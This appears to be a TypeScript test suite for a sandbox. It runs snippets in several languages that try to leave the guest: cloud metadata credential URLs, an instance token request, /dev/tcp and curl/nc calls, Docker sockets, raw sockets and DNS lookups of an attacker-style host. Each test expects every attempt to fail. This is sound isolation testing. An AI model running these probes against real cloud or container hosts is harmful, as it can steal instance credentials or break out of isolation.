import { type Attack, bash, javascript, python, typescript } from '../../support/attack.ts';

const metadata = ['169.254.169.254', '169.254.170.2', 'fd00:ec2::254', '169.254.169.123'];
const hosts = [
  ...metadata,
  '127.0.0.1',
  '::1',
  '10.0.0.2',
  '172.17.0.1',
  '1.1.1.1',
  '8.8.8.8',
  '2606:4700:4700::1111',
];

/** Ways to anybody outside. The host listens at HOST_PORT of its loopback, at HOST_SOCKET and at HOST_ABSTRACT. */
export const networkAttacks: Attack[] = [
  python(
    'no address answers over TCP',
    `import os, socket
for host in ${JSON.stringify(hosts)}:
    for port in (80, 443, 53, int(os.environ["HOST_PORT"])):
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
        s.settimeout(5)
        try: s.connect((host, port)); print("connected", host)
        except TimeoutError: print("no refusal", host)
        except OSError: pass
print("done")`,
    { stdout: 'done\n' },
  ),
  python(
    'no datagram leaves',
    `import os, socket
for host in ${JSON.stringify(hosts)}:
    for port in (53, 123, 443, int(os.environ["HOST_PORT"])):
        s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM)
        try: s.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01", (host, port)); print("sent", host)
        except TimeoutError: print("no refusal", host)
        except OSError: pass
print("done")`,
    { stdout: 'done\n' },
  ),
  python(
    'sockets of other families are not made',
    `import socket
for name, family, kind, protocol in (("raw", 2, 3, 1), ("raw6", 10, 3, 58), ("packet", 17, 3, 3), ("vsock", 40, 1, 0), ("alg", 38, 5, 0), ("bluetooth", 31, 3, 0), ("can", 29, 3, 1), ("xdp", 44, 3, 0), ("tipc", 30, 1, 0), ("smc", 43, 1, 0), ("sctp", 2, 1, 132), ("key", 15, 3, 2)):
    try: socket.socket(family, kind, protocol); print(name, "made")
    except OSError: pass`,
    { stdout: '' },
  ),
  python(
    "netlink tells of no interface but the guest's and takes no route",
    `import fcntl, socket, struct
print(socket.if_nameindex())
for kind, flags, body in ((16, 0x505, struct.pack("BxHiII", 0, 1, 0, 1, 1)), (24, 0x505, struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0)), (20, 0x505, struct.pack("BBBBI", 2, 8, 0, 0, 1) + struct.pack("HH4s", 8, 2, b"\\x7f\\0\\0\\1"))):
    try:
        s = socket.socket(16, 3, 0)
        s.send(struct.pack("IHHII", 16 + len(body), kind, flags, 1, 0) + body)
        print(struct.unpack_from("i", s.recv(4096), 16)[0])
    except OSError as e: print(e.strerror)
try: fcntl.ioctl(socket.socket(), 0x8914, struct.pack("16sh14x", b"lo", 1)); print("up")
except OSError as e: print(e.strerror)`,
    { stdout: '[]\n-13\n-13\n-13\nInappropriate ioctl for device\n' },
  ),
  python(
    'no unix socket of the host is there',
    `import os, socket
for kind in (1, 2, 5):
    for address in (os.environ["HOST_SOCKET"], "\\0" + os.environ["HOST_ABSTRACT"], "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket"):
        try: socket.socket(1, kind).connect(address); print("connected", address)
        except OSError: pass`,
    { stdout: '' },
  ),
  python(
    'names are not resolved',
    `import socket
for name in ("example.com", "metadata.google.internal", "host.docker.internal", "instance-data.ec2.internal", "secret.attacker.example"):
    try: print(socket.getaddrinfo(name, 80))
    except socket.gaierror as e: print(e.errno)`,
    { stdout: '-2\n'.repeat(5) },
  ),
  bash(
    'no device of bash is a connection',
    `for a in ${metadata.slice(0, 2).join(' ')} 127.0.0.1 1.1.1.1; do for p in 80 53 $HOST_PORT; do
  (exec 3<>/dev/tcp/$a/$p) 2>/dev/null && echo "tcp $a"; (echo x > /dev/udp/$a/$p) 2>/dev/null && echo "udp $a"; done; done; echo done`,
    { stdout: 'done\n' },
  ),
  bash(
    'commands for the network are missing or fail',
    `for c in "curl -m 2 http://169.254.169.254/" "wget -T 2 -O- http://169.254.170.2/" "nc -w 1 1.1.1.1 53" "ping -c 1 -W 1 1.1.1.1" "nslookup example.com" "getent hosts example.com" "ssh localhost" "telnet 1.1.1.1"; do
  $c >/dev/null 2>&1 && echo "$c works"; done; echo done`,
    { stdout: 'done\n' },
  ),
  javascript(
    'node connects to nobody',
    `const net = require('net');
(async () => {
  for (const host of ${JSON.stringify(hosts)}) for (const port of [80, 53, Number(process.env.HOST_PORT)]) await new Promise((done) => {
    net.connect({ host, port, timeout: 5000 }).on('connect', () => { console.log('connected', host); done(); }).on('error', done).on('timeout', () => console.log('no refusal', host));
  });
  console.log('done');
})();`,
    { stdout: 'done\n' },
  ),
  javascript(
    'DNS of node is answered by nobody',
    `const dns = require('dns').promises;
const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
resolver.setServers(['8.8.8.8', '169.254.169.253']);
Promise.allSettled([dns.lookup('example.com'), dns.resolve4('example.com'), resolver.resolveTxt('secret.attacker.example')])
  .then((all) => console.log(all.map(({ status }) => status).join()));`,
    { stdout: 'rejected,rejected,rejected\n' },
  ),
  javascript(
    'datagrams of node reach nobody',
    `const udp = require('dgram').createSocket('udp4');
let left = 3;
for (const host of ['127.0.0.1', '8.8.8.8', '169.254.169.254']) udp.send('x', Number(process.env.HOST_PORT), host, (e) => {
  if (!e) console.log('sent', host);
  if (--left === 0) udp.close();
});`,
    { stdout: '' },
  ),
  typescript(
    'fetch reaches no metadata and no DNS over HTTPS',
    `const urls: string[] = ['http://169.254.169.254/latest/meta-data/', 'http://169.254.170.2/v2/credentials', 'http://[fd00:ec2::254]/latest/', 'https://1.1.1.1/dns-query?name=example.com', 'https://dns.google/resolve?name=example.com', \`http://127.0.0.1:\${process.env.HOST_PORT}/\`];
const all = await Promise.allSettled(urls.map((url) => fetch(url, { signal: AbortSignal.timeout(5000) })));
console.log(all.map(({ status }) => status).join());
export {};`,
    { stdout: `${Array(6).fill('rejected').join()}\n` },
  ),
  typescript(
    'a token for metadata is not given',
    `import http from 'node:http';
const request = http.request({ host: '169.254.169.254', method: 'PUT', path: '/latest/api/token', headers: { 'X-aws-ec2-metadata-token-ttl-seconds': '60' } }, () => console.log('answered'));
request.on('error', (e: Error & { code?: string }) => console.log(e.code)).end();`,
    { stdout: 'EHOSTUNREACH\n' },
  ),
  typescript(
    'a server of the guest is reached by nobody',
    `import net from 'node:net';
const server = net.createServer(() => console.log('visited'));
server.on('error', (e: Error & { code?: string }) => console.log(e.code));
server.listen(8080, '0.0.0.0', () => setTimeout(() => { console.log('alone'); process.exit(0); }, 300));`,
    { stdout: 'alone\n' },
  ),
];
